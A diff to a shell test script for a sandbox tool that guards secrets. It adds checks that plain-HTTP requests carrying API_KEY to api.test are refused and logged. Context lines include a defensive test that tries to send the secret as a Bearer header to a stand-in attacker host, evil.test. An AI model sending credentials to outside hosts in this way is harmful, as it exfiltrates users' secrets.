@@ -58,6 +58,11 @@ sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" http://
 expect_match "leak: refused with a 403 naming the secret" 'blocked: the request carries the placeholder of secret API_KEY' "$OUT"
 expect_match "leak: recorded as secret.leak_blocked naming the secret" '"event":"secret.leak_blocked".*"secret":"API_KEY"' "$OUT"
 expect_eq "leak: nothing reached evil.test with the placeholder" "0" "$(grep '"host": "evil.test"' "$REQ" | grep -c 'Bearer')"
+# ---- the value never goes in clear: plain HTTP to the bound host, any port, is refused ----
+sb --allow api.test:8080 --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" http://api.test/echo-headers; $C -H \"X-Key: \$API_KEY\" http://api.test:8080/"
+expect_match "plain HTTP to the bound host: 403 saying to use https" 'secret API_KEY over plain HTTP; its value goes to api.test over HTTPS only: use https://api.test/' "$OUT"
+expect_match "...recorded as secret.leak_blocked, over plain HTTP" '"event":"secret.leak_blocked".*"host":"api.test","reason":"its placeholder was sent over plain HTTP' "$OUT"
+expect_eq "...the value reached no plain HTTP server, on any port" "0" "$(grep -v '"server": "https"' "$REQ" | grep -c "$REAL")"
 sb --log-format json -- sh -c "$C -H \"Authorization: Bearer \$API_KEY\" https://api.test/echo-headers"
 expect_match "use: recorded as secret.used, with the request line" '"event":"secret.used".*"secret":"API_KEY".*"request":"GET /echo-headers HTTP/1.1"' "$OUT"
 expect_no_match "no event carries the value" "$REAL" "$OUT"
